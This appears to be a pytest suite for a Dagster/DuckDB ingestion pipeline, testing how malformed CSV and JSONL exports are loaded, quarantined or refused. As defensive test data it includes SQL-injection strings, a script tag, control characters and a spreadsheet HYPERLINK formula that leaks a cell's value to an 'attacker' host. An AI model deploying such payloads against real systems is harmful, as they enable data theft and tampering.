"""The bad-input corpus (tests/data/bad/) through the real file source and the real cleaning.

Each export file is dropped in a folder, gathered by the file source's Dagster asset (step 3) and
cleaned by `clean_range` (step 4). Every case asserts one of the three acceptable outcomes:

- the rows are loaded with the right values;
- a row is quarantined with a reason, and its detail names the file, the line or the field;
- the whole file is refused by a `dagster.Failure` whose message names the file and what is
  wrong (a line or a field), never an unexplained exception.

After every load the day reconciles: raw rows = clean rows + quarantined rows.
tests/data/bad/README.md lists the files and what each one holds.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import shutil
from dataclasses import dataclass
from pathlib import Path

import dagster as dg
import duckdb
import pytest

from assets.step4_process.cleaning import clean_range, reconciliation
from assets.step4_process.entities import ENTITY_SPECS
from quality.schemas import CLEAN_TABLES, QUARANTINE, ddl
from resources.config_models import SourceConfig
from resources.settings import sources
from tests.sources_support import check_passed, gather, metadata

BAD = Path(__file__).parent / "data" / "bad"
DAY = dt.date(2026, 3, 2)


def drop(folder: Path, *names: str) -> None:
    """Copy corpus files into a drop folder, written on DAY (the partition of undated rows)."""
    folder.mkdir(parents=True, exist_ok=True)
    for name in names:
        shutil.copyfile(BAD / name, folder / name)
        stamp = dt.datetime.combine(DAY, dt.time(12), dt.UTC).timestamp()
        os.utime(folder / name, (stamp, stamp))


def file_source(folder: Path, entity: str = "incidents", pattern: str = "*.csv",
                **changes: object) -> SourceConfig:
    """A drop-folder source with the synthetic source's vocabularies (so good rows load)."""
    return SourceConfig.model_validate({
        "name": "drop", "kind": "files", "entities": [entity],
        "mappings": sources().get("synthetic").mappings,
        "files": {"folder": str(folder), "patterns": {entity: pattern}, **changes}})


@dataclass
class Landed:
    """A gather run and, when it landed rows, step 4 over the same day."""

    result: dg.ExecuteInProcessResult
    warehouse: Path
    entity: str

    def query(self, sql: str, params: object = ()) -> list[tuple]:
        with duckdb.connect(str(self.warehouse), read_only=True) as con:
            return con.execute(sql, params).fetchall()

    def clean(self) -> dict[str, dict[str, object]]:
        key = ENTITY_SPECS[self.entity].key.name
        with duckdb.connect(str(self.warehouse), read_only=True) as con:
            frame = con.execute(f"SELECT * FROM clean.{self.entity}").df()
        assert frame[key].is_unique
        return {row[key]: row for row in frame.to_dict("records")}

    def quarantined(self) -> dict[str | None, tuple[str, str, int, dict]]:
        """source_key -> (reason, detail, line, raw row) of each quarantined row."""
        found = self.query(f"SELECT source_key, reason_code, detail, _row, raw_row "
                           f"FROM clean.{self.entity}_quarantine ORDER BY _row")
        return {k: (r, d, line, json.loads(raw)) for k, r, d, line, raw in found}


def land(tmp_path: Path, source: SourceConfig, last: dt.date = DAY,
         first: dt.date = DAY) -> Landed:
    """Gather first..last; when rows landed (even if the source contract then failed), clean
    the same days and prove they reconcile."""
    warehouse = tmp_path / "warehouse.duckdb"
    entity = source.entities[0]
    result = gather(source, warehouse, first, last, raise_on_error=False)
    landed = Landed(result, warehouse, entity)
    if result.get_asset_materialization_events():
        end = last + dt.timedelta(days=1)
        with duckdb.connect(str(warehouse)) as con:
            con.execute(ddl("clean", entity, CLEAN_TABLES[entity]))
            con.execute(ddl("clean", f"{entity}_quarantine", QUARANTINE))
            con.begin()
            clean_range(con, ENTITY_SPECS[entity], [source], first, end)
            con.commit()
            assert reconciliation(con, entity, [source], first, end) == []
    return landed


def refusal(landed: Landed) -> str:
    """The message of a refused file: a dagster.Failure raised by the gather asset, which is
    what the UI and the CLI show, not a stray exception with a traceback."""
    assert not landed.result.success, "the file was expected to be refused"
    errors = [e.step_failure_data.error for e in landed.result.all_events if e.is_step_failure]
    assert len(errors) == 1 and errors[0] is not None
    assert errors[0].cls_name == "Failure", f"unexplained {errors[0].cls_name}: {errors[0]}"
    return errors[0].message


# ---------------------------------------------------------------------- the file's own shape


def test_unbalanced_quotes_are_refused_or_quarantined_naming_the_line(tmp_path: Path) -> None:
    """Line 3 opens a quote that never closes."""
    drop(tmp_path / "drop", "unbalanced_quotes.csv")
    landed = land(tmp_path, file_source(tmp_path / "drop"))
    if not landed.result.success:
        message = refusal(landed)
        assert "unbalanced_quotes.csv" in message and "line 3" in message, message
        return
    assert "UQ-1" in landed.clean()
    reason, detail, line, _ = landed.quarantined()[None]
    assert (reason, line) == ("UNPARSEABLE_ROW", 3)
    assert detail.startswith("line 3 of unbalanced_quotes.csv: ")


def test_a_wrong_delimiter_refuses_the_file_naming_the_columns_it_lacks(tmp_path: Path) -> None:
    drop(tmp_path / "drop", "wrong_delimiter.csv")
    message = refusal(land(tmp_path, file_source(tmp_path / "drop")))
    assert "wrong_delimiter.csv" in message
    assert "'sys_updated_on', 'opened_at'" in message  # the fields that date a row
    assert "number;opened_at;" in message and "delimiter" in message


def test_a_byte_order_mark_is_not_part_of_the_first_column(tmp_path: Path) -> None:
    drop(tmp_path / "drop", "bom.csv")
    landed = land(tmp_path, file_source(tmp_path / "drop"))
    assert landed.result.success
    assert sorted(landed.clean()) == ["BOM-1", "BOM-2"]
    assert landed.quarantined() == {}


def test_latin1_bytes_in_a_utf8_file_quarantine_that_line(tmp_path: Path) -> None:
    drop(tmp_path / "drop", "latin1_in_utf8.csv")
    landed = land(tmp_path, file_source(tmp_path / "drop"))
    assert sorted(landed.clean()) == ["L1-1", "L1-3"]
    reason, detail, line, raw = landed.quarantined()[None]
    assert (reason, line) == ("UNPARSEABLE_ROW", 3)
    assert detail.startswith("line 3 of latin1_in_utf8.csv: ") and "utf-8" in detail
    assert raw["_file"] == "latin1_in_utf8.csv"


def test_the_same_file_read_as_latin1_loads_every_row(tmp_path: Path) -> None:
    """The fix a person applies after reading the quarantine: files.read.encoding."""
    drop(tmp_path / "drop", "latin1_in_utf8.csv")
    source = file_source(tmp_path / "drop", read={"encoding": "latin-1"})
    clean = land(tmp_path, source).clean()
    assert clean["L1-2"]["short_description"] == "Café au lait naïve"


def test_local_times_around_daylight_saving_changes_land_on_their_utc_day(
        tmp_path: Path) -> None:
    """An Amsterdam export with day-first dates across both 2025 clock changes."""
    drop(tmp_path / "drop", "timestamps_amsterdam.csv")
    source = file_source(tmp_path / "drop").model_copy(
        update={"timezone": "Europe/Amsterdam", "timestamp_format": "%d/%m/%Y %H:%M"})
    landed = land(tmp_path, source, dt.date(2025, 10, 31), dt.date(2025, 3, 1))
    days = dict(landed.query("SELECT number, _partition FROM raw.drop_incidents"))
    # 00:30 summer time on 26 October is 22:30 UTC on the 25th.
    assert days == {"DST-1": dt.date(2025, 3, 30), "DST-2": dt.date(2025, 10, 25),
                    "DST-3": dt.date(2025, 3, 30)}
    clean = landed.clean()
    assert clean["DST-1"]["minutes_to_resolve"] == 60.0  # 01:30 CET to 03:30 CEST
    assert clean["DST-2"]["minutes_to_resolve"] == 240.0  # 00:30 CEST to 03:30 CET
    assert landed.quarantined()["DST-3"][:2] == (
        "UNPARSEABLE_TIMESTAMP",
        'opened_at "2025-03-30T01:30:00+01:00" is not a timestamp in the format %d/%m/%Y %H:%M')


def test_newlines_inside_quoted_values_are_kept_and_lines_counted(tmp_path: Path) -> None:
    drop(tmp_path / "drop", "embedded_newlines.csv")
    landed = land(tmp_path, file_source(tmp_path / "drop"))
    clean = landed.clean()
    assert clean["NL-1"]["short_description"] == "first line\nsecond line"
    assert clean["NL-2"]["short_description"] == "windows\r\nline\r\nbreaks"
    # _row is the physical line a record starts on: NL-1 spans 2-3, NL-2 spans 4-6.
    assert {k: r["_row"] for k, r in clean.items()} == {"NL-1": 2, "NL-2": 4, "NL-3": 7}


def test_an_empty_file_lands_nothing_or_is_refused_by_name(tmp_path: Path) -> None:
    drop(tmp_path / "drop", "empty.csv")
    landed = land(tmp_path, file_source(tmp_path / "drop"))
    if landed.result.get_asset_materialization_events():
        # Nothing to lose; on a first load the source contract then misses every column.
        assert metadata(landed.result, "drop_incidents")["rows_loaded"] == 0
        assert landed.query("SELECT count(*) FROM raw._files WHERE path = 'empty.csv'") == [(1,)]
    else:
        assert "empty.csv" in refusal(landed)


def test_a_header_only_file_lands_no_rows(tmp_path: Path) -> None:
    drop(tmp_path / "drop", "header_only.csv")
    landed = land(tmp_path, file_source(tmp_path / "drop"))
    assert landed.result.success
    assert metadata(landed.result, "drop_incidents")["rows_loaded"] == 0
    assert landed.clean() == {} and landed.quarantined() == {}


def test_missing_required_columns_fail_the_contract_and_quarantine_every_row(
        tmp_path: Path) -> None:
    drop(tmp_path / "drop", "missing_required_columns.csv")
    landed = land(tmp_path, file_source(tmp_path / "drop"))
    assert check_passed(landed.result, "drop_incidents") is False
    failures = [e.event_specific_data.metadata["failures"].value for e in landed.result.all_events
                if e.event_type_value == "ASSET_CHECK_EVALUATION"
                and e.event_specific_data.check_name == "source_contract"]
    assert failures == ["required column 'priority' is missing\n"
                        "required column 'state' is missing"]
    assert landed.clean() == {}
    assert {k: v[:2] for k, v in landed.quarantined().items()} == {
        "MC-1": ("MISSING_REQUIRED", "required field priority is empty"),
        "MC-2": ("MISSING_REQUIRED", "required field priority is empty")}


def test_unexpected_extra_columns_are_kept_in_raw_and_ignored_by_cleaning(
        tmp_path: Path) -> None:
    drop(tmp_path / "drop", "extra_columns.csv")
    landed = land(tmp_path, file_source(tmp_path / "drop"))
    assert check_passed(landed.result, "drop_incidents")
    assert {k: (r["priority"], r["state"]) for k, r in landed.clean().items()} == {
        "EX-1": (3, "resolved"), "EX-2": (3, "resolved")}
    columns = {r[0] for r in landed.query("DESCRIBE raw.drop_incidents")}
    assert {"notes", "state_1", 'x"); DROP TABLE raw._files; --'} <= columns
    assert landed.query("SELECT count(*) FROM raw._files") == [(1,)]  # the header did nothing


def test_a_column_named_like_a_lineage_column_is_refused_or_kept(tmp_path: Path) -> None:
    """An export with its own `_row` column: the file is refused naming it, or its values are
    kept, but never dropped in favour of the lineage column without a word."""
    drop(tmp_path / "drop", "reserved_column_name.csv")
    landed = land(tmp_path, file_source(tmp_path / "drop"))
    if not landed.result.success:
        message = refusal(landed)
        assert "reserved_column_name.csv" in message and "_row" in message, message
        return
    assert "RC-1" in landed.clean()
    raw = landed.query("SELECT * FROM raw.drop_incidents")
    assert any("export-row-7" in map(str, row) for row in raw), raw


def test_a_10_mb_text_field_is_loaded_whole_or_refused_naming_its_line(tmp_path: Path) -> None:
    """Generated, not stored: a description of 10 MiB (a pasted log) on line 3."""
    folder = tmp_path / "drop"
    folder.mkdir()
    text = (BAD / "bom.csv").read_text(encoding="utf-8-sig").splitlines()
    huge = "log line\\n" * (1024 * 1024 + 1)
    rows = [text[0], text[1], text[2].replace("BOM-2", "HUGE").replace("mail is slow", huge)]
    (folder / "huge.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    landed = land(tmp_path, file_source(folder))
    if landed.result.success:
        assert landed.clean()["HUGE"]["short_description"] == huge
    else:
        message = refusal(landed)
        assert "huge.csv" in message and "line 3" in message, message


def test_hostile_json_lines_are_data_and_a_broken_line_is_named(tmp_path: Path) -> None:
    drop(tmp_path / "drop", "hostile_text.jsonl")
    landed = land(tmp_path, file_source(tmp_path / "drop", "surveys", "*.jsonl"))
    comments = {k: r["comment"] for k, r in landed.clean().items()}
    assert comments["JS-1"] == "<script>alert('x')</script>"
    assert comments["JS-3"] == "'; DROP TABLE clean.incidents; --"
    reason, detail, line, _ = landed.quarantined()[None]
    assert (reason, line) == ("UNPARSEABLE_ROW", 3)
    assert detail.startswith("line 3 of hostile_text.jsonl: not a JSON object")


def test_two_files_with_rows_on_the_same_day_keep_their_rows_apart(tmp_path: Path) -> None:
    """Two exports whose rows share a day both number their lines from 2: a rejected line 2
    of one file must not take line 2 of the other with it (nor its raw row)."""
    folder = tmp_path / "drop"
    folder.mkdir()
    text = (BAD / "bom.csv").read_text(encoding="utf-8-sig")
    (folder / "a.csv").write_text(text.replace("BOM-", "A-").replace("3 - Moderate", "P9", 1))
    (folder / "b.csv").write_text(text.replace("BOM-", "B-"))
    landed = land(tmp_path, file_source(folder))
    assert sorted(landed.clean()) == ["A-2", "B-1", "B-2"]
    reason, _, line, raw = landed.quarantined()["A-1"]
    assert (reason, line, raw["_file"], raw["number"]) == ("UNKNOWN_CODE", 2, "a.csv", "A-1")


# ------------------------------------------------------- well-formed files with wrong values


@pytest.fixture(scope="module")
def values(tmp_path_factory: pytest.TempPathFactory) -> Landed:
    """Every values_*.csv file of the corpus in one drop folder, gathered and cleaned once
    (each file's rows are dated on a day of their own, 2 to 9 March)."""
    folder = tmp_path_factory.mktemp("values")
    drop(folder / "drop", *sorted(p.name for p in BAD.glob("values_*.csv")))
    landed = land(folder, file_source(folder / "drop", pattern="values_*.csv"),
                  DAY + dt.timedelta(days=7))
    assert landed.result.success
    return landed


def _reasons(values: Landed, prefix: str) -> dict[str, tuple[str, str]]:
    return {k: v[:2] for k, v in values.quarantined().items() if k and k.startswith(prefix)}


def test_every_row_of_every_file_is_accounted_for(values: Landed) -> None:
    files = sorted(BAD.glob("values_*.csv"))
    raw = values.query("SELECT _file, count(*) FROM raw.drop_incidents GROUP BY 1 ORDER BY 1")
    assert raw == [(f.name, len(f.read_text(encoding="utf-8").splitlines()) - 1) for f in files]
    quarantined = values.query("SELECT count(*) FROM clean.incidents_quarantine")[0][0]
    assert len(values.clean()) + quarantined == sum(n for _, n in raw)


def test_values_of_the_wrong_type_are_quarantined_naming_field_and_value(values: Landed) -> None:
    assert _reasons(values, "WT-") == {
        "WT-1": ("UNPARSEABLE_NUMBER", 'reassignment_count "three" is not a number'),
        "WT-2": ("UNPARSEABLE_NUMBER", 'hold_duration "ten minutes" is not a number'),
        "WT-3": ("UNPARSEABLE_NUMBER", 'reopen_count "1.5" is not a whole number'),
        "WT-4": ("UNPARSEABLE_TIMESTAMP",
                 'opened_at "yesterday" is not a timestamp in the format %Y-%m-%d %H:%M:%S'),
        "WT-5": ("UNPARSEABLE_TIMESTAMP", 'resolved_at "2026-02-30 10:00:00" is not a '
                                          "timestamp in the format %Y-%m-%d %H:%M:%S"),
        "WT-6": ("UNPARSEABLE_TIMESTAMP",
                 'opened_at "2026-03-02" is not a timestamp in the format %Y-%m-%d %H:%M:%S'),
    }
    assert "WT-7" in values.clean()
    line, raw = values.quarantined()["WT-4"][2:]
    assert (line, raw["_file"]) == (5, "values_wrong_types.csv")  # the file and its line


def test_timestamps_in_other_formats_are_quarantined(values: Landed) -> None:
    reasons = _reasons(values, "TS-")
    assert sorted(reasons) == ["TS-1", "TS-2", "TS-3", "TS-4", "TS-5"]
    assert {r for r, _ in reasons.values()} == {"UNPARSEABLE_TIMESTAMP"}
    assert "TS-6" in values.clean()


def test_future_and_pre_1990_dates_are_quarantined(values: Landed) -> None:
    assert {k: r for k, (r, _) in _reasons(values, "FA-").items()} == {
        "FA-1": "FUTURE_TIMESTAMP", "FA-2": "IMPLAUSIBLE_TIMESTAMP"}
    assert {"FA-3", "FA-4"} <= set(values.clean())


def test_resolved_before_opened_and_other_inversions_are_quarantined(values: Landed) -> None:
    assert {k: r for k, (r, _) in _reasons(values, "TO-").items()} == {
        "TO-1": "RESOLVED_BEFORE_OPENED", "TO-2": "ACKNOWLEDGED_BEFORE_OPENED",
        "TO-3": "CLOSED_BEFORE_RESOLVED"}
    assert values.clean()["TO-4"]["minutes_to_resolve"] == 0.0  # resolved as it opened


def test_negative_and_absurd_durations_are_quarantined(values: Landed) -> None:
    assert {k: r for k, (r, _) in _reasons(values, "DU-").items()} == {
        "DU-1": "INVALID_VALUE", "DU-2": "INVALID_VALUE", "DU-3": "INVALID_VALUE",
        "DU-4": "INVALID_VALUE"}
    kept = values.clean()["DU-5"]
    assert (kept["on_hold_minutes"], kept["minutes_to_resolve"]) == (120.0, 0.0)


def test_duplicate_keys_with_conflicting_content_keep_one_version(values: Landed) -> None:
    clean = values.clean()
    assert clean["DK-1"]["short_description"] == "conflicting copy"  # the later line
    assert clean["DK-2"]["short_description"] == "latest"  # the newer update
    assert {k: r for k, (r, _) in _reasons(values, "DK-").items()} == {
        "DK-1": "DUPLICATE_SUPERSEDED", "DK-2": "DUPLICATE_SUPERSEDED", "DK-3": "DUPLICATE_EXACT"}


def test_control_characters_survive_as_text(values: Landed) -> None:
    clean = values.clean()
    assert clean["CC-1"]["short_description"] == (
        "bell\x07 nul\x00 esc\x1b[31m del\x7f csi\x9b bidi\u202eevil zw\u200b")
    assert clean["CC-2"]["service"] == "tab\there"
    reason, detail = _reasons(values, "CC-")["CC-3"]
    assert reason == "UNKNOWN_CODE" and "\x1b" not in detail and "\\u001" in detail


def test_html_javascript_and_sql_in_tickets_are_stored_verbatim(values: Landed) -> None:
    clean = values.clean()
    assert clean["HT-1"]["short_description"] == "<script>alert('x')</script>"
    assert clean["HT-5"]["service"] == "=HYPERLINK(\"http://attacker/?\"&A1,\"click\")"
    assert "'; DROP TABLE clean.incidents; --" in clean  # a key is data too
    assert values.query("SELECT count(*) > 0 FROM clean.incidents") == [(True,)]
